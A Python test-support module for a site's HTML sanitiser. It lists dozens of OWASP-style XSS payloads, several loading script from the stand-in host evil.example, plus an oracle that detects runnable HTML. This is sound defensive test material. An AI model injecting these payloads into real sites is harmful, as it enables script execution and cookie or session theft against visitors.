"""The attack vectors and the oracle that judges HTML inert, shared by the hostile tests.

The oracle is written apart from `dateline.content.sanitize`: it knows nothing of its allow-list and
asks only what a browser would run. The vectors follow the classes of OWASP's XSS
filter-evasion cheat sheet (written afresh here, not copied): scheme case and whitespace,
entities in every spelling, SVG and MathML namespaces, event handlers on any element,
`style` with `url()` and `expression()`, elements that load or navigate, parser confusion.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

SAFE_SCHEMES = {"http", "https", "mailto", "tel"}
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "srcset", "poster", "data",
    "background", "cite", "longdesc", "usemap", "ping", "manifest", "codebase", "dynsrc",
    "lowsrc",
}
# Elements that run, load or navigate on their own, whatever their attributes.
ACTIVE_ELEMENTS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "svg",
    "math", "style", "link", "meta", "form", "button", "input", "textarea", "select",
    "isindex", "template", "noscript", "video", "audio", "source", "portal", "xml",
    "animate", "set", "foreignobject", "marquee", "bgsound", "layer", "ilayer", "xss",
}
_DROPPED_FROM_SCHEME = re.compile(r"[\x00-\x20\x7f]")
CONTROL_CHARACTERS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")

VECTORS = {
    "script element": "<script>alert(1)</script>",
    "script, upper case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "img onerror": "<img src=x onerror=alert(1)>",
    "handler on a paragraph": "<p onmouseover=alert(1)>hover</p>",
    "handler on a heading, focused": "<h2 onfocus=alert(1) tabindex=0 autofocus>x</h2>",
    "handler after a vertical tab": "<img src=x\x0bonerror=alert(1)>",
    "handler after a slash": "<img/src='x'/onerror=alert(1)>",
    "body onload": "<body onload=alert(1)>",
    "scheme in mixed case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "scheme with a tab": '<a href="jav\tascript:alert(1)">x</a>',
    "scheme with an encoded tab": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "scheme with an encoded newline": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "scheme after a control character": '<a href="&#14;  javascript:alert(1)">x</a>',
    "scheme after spaces": '<a href="   javascript:alert(1)">x</a>',
    "scheme in decimal entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;'
                                  '&#112;&#116;&#58;alert(1)">x</a>',
    "scheme in padded decimals, no semicolons": '<a href="&#0000106&#0000097&#0000118&#0000097'
                                                '&#0000115&#0000099&#0000114&#0000105&#0000112'
                                                '&#0000116&#0000058alert(1)">x</a>',
    "scheme in hex entities, no semicolons": '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72'
                                             '&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    "named colon entity": '<a href="javascript&colon;alert(1)">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data URL": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data URL image": '<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">',
    "img src javascript": '<img src="javascript:alert(1)">',
    "srcset": '<img src=a.png srcset="javascript:alert(1) 1x">',
    "svg onload": "<svg onload=alert(1)>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg xlink": '<svg><a xlink:href="javascript:alert(1)"><text x=0 y=9>x</text></a></svg>',
    "svg animate": '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    "svg set href": '<svg><a><set attributeName=href to="javascript:alert(1)"/>'
                    "<text>x</text></a></svg>",
    "math href": '<math href="javascript:alert(1)">x</math>',
    "math mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "math and svg mutation": "<math><mi><svg><mtext><style><img src=x onerror=alert(1)></style>",
    "style url": '<p style="background:url(javascript:alert(1))">x</p>',
    "style url in a table cell": '<table><tr><td style="text-align:left;background-image:'
                                 'url(javascript:alert(1))">x</td></tr></table>',
    "style expression": '<div style="width:expression(alert(1))">x</div>',
    "style element import": '<style>@import "javascript:alert(1)";</style>',
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "base href": '<base href="javascript:alert(1)//">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "form action": '<form action="javascript:alert(1)"><button>go</button></form>',
    "button formaction": '<button formaction="javascript:alert(1)">go</button>',
    "input autofocus": "<input autofocus onfocus=alert(1)>",
    "details ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "video source onerror": "<video><source onerror=alert(1)></video>",
    "comment breakout": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "nested quote confusion": '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "double open bracket": "<<script>alert(1);//<</script>",
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "template": "<template><img src=x onerror=alert(1)></template>",
    "title breakout": "</title><script>alert(1)</script>",
    "grave accents for quotes": "<a href=`javascript:alert(1)`>x</a>",
    "default src with a handler": "<img src=# onmouseover=alert(1)>",
    "non-alphanumeric after the tag name": "<script/xss src=//evil.example/x.js></script>",
    "punctuation before a handler": "<body onload!#$%&()*~+-_.,:;?@[/|]^`=alert(1)>",
    "half-open tag": '<img src="`<javascript:alert(1)>`',
    "no closing script tag": "<script src=//evil.example/x.js?< b >",
    "quote inside a script attribute": '<script a=">" src="//evil.example/x.js"></script>',
    "null inside the scheme": '<a href="java\x00script:alert(1)">x</a>',
    "input image": '<input type="image" src="javascript:alert(1)">',
    "body background": '<body background="javascript:alert(1)">',
    "table and cell background": '<table background="javascript:alert(1)"><tr>'
                                 '<td background="javascript:alert(1)">x</td></tr></table>',
    "img dynsrc and lowsrc": '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
    "stylesheet link": '<link rel="stylesheet" href="javascript:alert(1)">',
    "list-style-image": '<style>li {list-style-image: '
                        'url("javascript:alert(1)");}</style><ul><li>x',
    "CSS escapes in style": '<div style="background-image:\\0075\\0072\\006C\\0028'
                            "'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070"
                            "\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0031"
                            "\\0029'\\0029\">x</div>",
    "unknown element with style": "<xss style=\"xss:expression(alert(1))\">",
    "behavior": '<p style="behavior: url(evil.htc);">x</p>',
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "XML data island": '<xml id="i"><x><c><![CDATA[<img src="javas]]><![CDATA[cript:alert(1);">]]>'
                       "</c></x></xml>",
    "embedded SVG as data": '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "meta set-cookie": '<meta http-equiv="Set-Cookie" content="session=stolen">',
    "frameset": '<frameset><frame src="javascript:alert(1)"></frameset>',
    "bgsound": '<bgsound src="javascript:alert(1)">',
    "template literal payload": "<img src=x onerror=alert`1`>",
    "textarea breakout": "</textarea><script>alert(1)</script>",
}

# Old-IE tricks that an HTML5 parser (the oracle's, Chromium's) already reads as inert text or
# a broken tag: the oracle cannot show them live, so only the sanitiser's output is judged.
LEGACY = {"grave accents for quotes", "half-open tag"}


def scheme(url: str) -> str:
    """The scheme a browser sees in an attribute value the parser has already decoded:
    control characters and whitespace are ignored in it."""
    cleaned = _DROPPED_FROM_SCHEME.sub("", url)
    match = re.match(r"^([A-Za-z][A-Za-z0-9+.-]*):", cleaned)
    return match.group(1).lower() if match else ""


class _Inspector(HTMLParser):
    def __init__(self, allow_theme_scripts: bool):
        super().__init__(convert_charrefs=True)
        self.allow_theme_scripts = allow_theme_scripts
        self.problems: list[str] = []
        self.structured: list[str] = []
        self._in_structured = False

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag in ACTIVE_ELEMENTS and not self._theme_element(tag, attributes):
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...> event handler")
            if name in URL_ATTRIBUTES and scheme(value) not in SAFE_SCHEMES | {""}:
                self.problems.append(f"<{tag} {name}={value!r}> unsafe URL")
            if name == "style" and re.search(r"url\s*\(|expression|@import|behavior|\\", value,
                                             re.I):
                self.problems.append(f"<{tag} style={value!r}>")
            if name == "srcdoc":
                self.problems.append(f"<{tag} srcdoc>")
        self._in_structured = tag == "script" and attributes.get("type") == "application/ld+json"

    def handle_comment(self, data):
        if re.search(r"\[if|<script", data, re.I):  # a conditional comment is markup to old IE
            self.problems.append("conditional comment or script in a comment")

    def handle_endtag(self, tag):
        self._in_structured = False

    def handle_data(self, data):
        if self._in_structured:
            self.structured.append(data)

    def _theme_element(self, tag, attributes) -> bool:
        """What the theme itself writes on every page: its stylesheets, scripts, forms."""
        if not self.allow_theme_scripts:
            return False
        if tag == "script":
            source = attributes.get("src") or ""
            return attributes.get("type") == "application/ld+json" or "/theme/js/" in source
        if tag == "link":
            return attributes.get("rel") in ("stylesheet", "icon", "canonical", "alternate", "prev",
                                             "next")
        if tag == "meta":
            return "http-equiv" not in attributes
        return tag in ("form", "input", "button", "select", "noscript")


def inert_problems(markup: str, *, page: bool = False) -> list[str]:
    """What in this HTML could run script; [] when nothing can. `page` allows the theme's own
    scripts, stylesheets and search form (a page, not a fragment)."""
    inspector = _Inspector(allow_theme_scripts=page)
    inspector.feed(markup)
    inspector.close()
    for block in inspector.structured:
        if re.search(r"[<>&]", block):
            inspector.problems.append("<, > or & inside the JSON-LD block")
    return inspector.problems


def write_vector_release(content) -> str:
    """Add a release carrying every vector: as raw HTML in the body, as the address of a
    Markdown link, and one in the title. Returns its page's path in the output."""
    paragraphs = []
    for name, vector in VECTORS.items():  # control characters are refused in bodies
        paragraphs.append(f"{name}: {re.sub(CONTROL_CHARACTERS, ' ', vector)}")
    links = " ".join(f"[{name}]({scheme}alert(1))" for name, scheme in (
        ("case", "JaVaScRiPt:"), ("entity", "&#106;avascript:"), ("hex", "&#x6A;avascript:"),
        ("colon", "javascript&colon;"), ("data", "data:text/html,"), ("vb", "vbscript:")))
    body = "\n\n".join(paragraphs + [f"Links: {links}."])
    release = (
        "---\n"
        'title: "OWASP vectors <svg onload=alert(1)> in a headline"\n'
        "date: 2024-01-05T09:00:00-05:00\n"
        'ticker: "TSXV: NGT"\n'
        "tags: [operations]\n"
        "disclaimer: none\n"
        "---\n"
        f"{body}\n"
    )
    path = content / "releases" / "2024" / "2024-01-05-owasp-vectors.md"
    path.write_text(release, encoding="utf-8")
    return "releases/2024/owasp-vectors/index.html"
